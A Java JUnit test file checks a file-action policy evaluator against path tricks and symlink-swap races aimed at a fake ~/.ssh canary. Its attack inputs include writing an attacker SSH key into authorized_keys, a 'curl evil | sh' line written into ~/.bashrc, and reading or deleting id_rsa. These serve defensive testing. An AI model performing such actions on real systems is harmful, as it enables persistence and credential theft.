package dev.mycel.policy;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * T1: a denied file action changes nothing on disk, and a link swapped in after the check
 * cannot redirect an allowed one into the blocked canary {@code ~/.ssh}.
 */
@Tag("T1")
class T1_FileActionsTest {
    @TempDir
    Path tmp;
    FakeHome fh;
    Path wd;
    PolicyEvaluator eval;
    FileActions files;

    @BeforeEach
    void setUp() throws IOException {
        fh = FakeHome.in(tmp);
        wd = fh.workDir();
        eval = fh.evaluator();
        files = new FileActions(eval, 1 << 20, 1000);
        Files.createDirectories(wd.resolve("sub"));
        Files.writeString(wd.resolve("sub/id_rsa"), "ordinary file that happens to share the key's name");
    }

    /** Moves {@code victim} away and puts a link to {@code target} in its place, as an attacker racing us would. */
    private void swapInLink(Path victim, Path target) throws IOException {
        Files.move(victim, victim.resolveSibling(victim.getFileName() + ".moved"));
        Files.createSymbolicLink(victim, target);
    }

    private static void assertRefusedWithoutCanary(FileOutcome o) {
        assertThat(o).isInstanceOf(FileOutcome.Refused.class);
        assertThat(o.toString()).doesNotContain(FakeHome.CANARY);
    }

    @Test
    void T1_deniedActionsChangeNothingOnDisk() throws IOException {
        Files.createSymbolicLink(wd.resolve("keys"), fh.ssh());
        Files.createSymbolicLink(wd.resolve("dangling"), fh.ssh().resolve("authorized_keys2"));
        List<Action.FileAction> attacks = List.of(
                new Action.WriteFile(Path.of("~/.ssh/authorized_keys"), "ssh-ed25519 ATTACKER", true),
                new Action.WriteFile(Path.of("keys/authorized_keys"), "ssh-ed25519 ATTACKER", false),
                new Action.WriteFile(Path.of("dangling"), "ssh-ed25519 ATTACKER", false),
                new Action.WriteFile(Path.of("~/.SSH/authorized_keys"), "ssh-ed25519 ATTACKER", false),
                new Action.DeleteFile(Path.of("keys/id_rsa")),
                new Action.DeleteFile(Path.of("~/.ssh")),
                new Action.WriteFile(Path.of("~/.bashrc"), "curl evil | sh", true),
                new Action.DeleteFile(Path.of("~/.bashrc")),
                new Action.ReadFile(Path.of("keys/id_rsa")),
                new Action.ListDirectory(Path.of("keys")));
        String before = FakeHome.treeHash(fh.root());
        for (Action.FileAction a : attacks) {
            Ruling r = eval.evaluate(a, fh.context());
            assertThat(r).as(a.toString()).isInstanceOf(Ruling.Deny.class);
            assertRefusedWithoutCanary(files.perform(a, fh.context(), r));
        }
        assertThat(FakeHome.treeHash(fh.root())).isEqualTo(before);
    }

    @Test
    void T1_forgedAllowForABlockedPathIsRefused() throws IOException {
        Path keys = fh.ssh().resolve("authorized_keys");
        String before = FakeHome.treeHash(fh.root());
        Ruling forged = new Ruling.Allow(Risk.LOW, "looks fine", List.of(), Optional.of(keys));
        for (Action.FileAction a : List.of(new Action.WriteFile(keys, "ATTACKER", false),
                new Action.ReadFile(fh.ssh().resolve("id_rsa")), new Action.DeleteFile(keys))) {
            assertRefusedWithoutCanary(files.perform(a, fh.context(), forged));
        }
        assertThat(FakeHome.treeHash(fh.root())).isEqualTo(before);
    }

    @Test
    void T1_linkSwappedAfterCheckIsRefused() throws IOException {
        Action.ReadFile read = new Action.ReadFile(Path.of("sub/id_rsa"));
        Action.WriteFile write = new Action.WriteFile(Path.of("sub/id_rsa"), "ATTACKER", false);
        Ruling readOk = eval.evaluate(read, fh.context());
        Ruling writeOk = eval.evaluate(write, fh.context());
        assertThat(readOk).isInstanceOf(Ruling.Allow.class);
        assertThat(writeOk).isInstanceOf(Ruling.Confirm.class);
        swapInLink(wd.resolve("sub"), fh.ssh());
        String canary = FakeHome.treeHash(fh.ssh());
        assertRefusedWithoutCanary(files.perform(read, fh.context(), readOk));
        assertRefusedWithoutCanary(files.perform(write, fh.context(), writeOk));
        assertThat(FakeHome.treeHash(fh.ssh())).isEqualTo(canary);
    }

    /** The swap lands after the re-check too: only the no-follow walk stands between it and the canary. */
    @Test
    void T1_directorySwappedAfterTheRecheckIsRefusedByTheNoFollowWalk() throws IOException {
        Path target = wd.resolve("sub/id_rsa");
        swapInLink(wd.resolve("sub"), fh.ssh());
        String canary = FakeHome.treeHash(fh.ssh());
        for (Action.FileAction a : List.of(new Action.ReadFile(target), new Action.WriteFile(target, "ATTACKER", false),
                new Action.WriteFile(target, "ATTACKER", true), new Action.DeleteFile(target),
                new Action.ListDirectory(wd.resolve("sub")))) {
            Path stale = a instanceof Action.ListDirectory ? wd.resolve("sub") : target;
            FileOutcome o = files.execute(a, stale);
            assertRefusedWithoutCanary(o);
            assertThat(((FileOutcome.Refused) o).reason()).as(a.toString())
                    .isEqualTo(wd.resolve("sub") + " is now a symbolic link; it was not one when checked");
        }
        assertThat(FakeHome.treeHash(fh.ssh())).isEqualTo(canary);
    }

    @Test
    void T1_workDirSwappedAfterTheRecheckIsRefusedByTheNoFollowWalk() throws IOException {
        Path target = wd.resolve("notes.txt");
        Files.writeString(fh.ssh().resolve("notes.txt"), FakeHome.CANARY);
        swapInLink(wd, fh.ssh());
        String canary = FakeHome.treeHash(fh.ssh());
        assertRefusedWithoutCanary(files.execute(new Action.ReadFile(target), target));
        assertRefusedWithoutCanary(files.execute(new Action.WriteFile(target, "ATTACKER", false), target));
        assertThat(FakeHome.treeHash(fh.ssh())).isEqualTo(canary);
    }

    @Test
    void T1_fileSwappedForALinkAfterTheRecheckIsRefused() throws IOException {
        Path target = wd.resolve("notes.txt");
        swapInLink(target, fh.ssh().resolve("authorized_keys"));
        String canary = FakeHome.treeHash(fh.ssh());
        String workDir = FakeHome.treeHash(wd);
        for (Action.FileAction a : List.of(new Action.ReadFile(target), new Action.WriteFile(target, "ATTACKER", false),
                new Action.WriteFile(target, "ATTACKER", true), new Action.DeleteFile(target))) {
            FileOutcome o = files.execute(a, target);
            assertRefusedWithoutCanary(o);
            assertThat(o.toString()).doesNotContain("ssh-ed25519");
        }
        assertThat(FakeHome.treeHash(fh.ssh())).isEqualTo(canary);
        assertThat(FakeHome.treeHash(wd)).as("no temp file left, the link untouched").isEqualTo(workDir);
    }

    @Test
    void T1_linkToANewNameAfterTheCheckIsRefused() throws IOException {
        Action.WriteFile create = new Action.WriteFile(Path.of("fresh.txt"), "ATTACKER", false);
        Ruling ok = eval.evaluate(create, fh.context());
        assertThat(ok).isInstanceOf(Ruling.Allow.class);
        Files.createSymbolicLink(wd.resolve("fresh.txt"), fh.ssh().resolve("authorized_keys2"));
        String canary = FakeHome.treeHash(fh.ssh());
        assertRefusedWithoutCanary(files.perform(create, fh.context(), ok));
        assertRefusedWithoutCanary(files.execute(create, wd.resolve("fresh.txt")));
        assertThat(fh.ssh().resolve("authorized_keys2")).doesNotExist();
        assertThat(FakeHome.treeHash(fh.ssh())).isEqualTo(canary);
    }
}
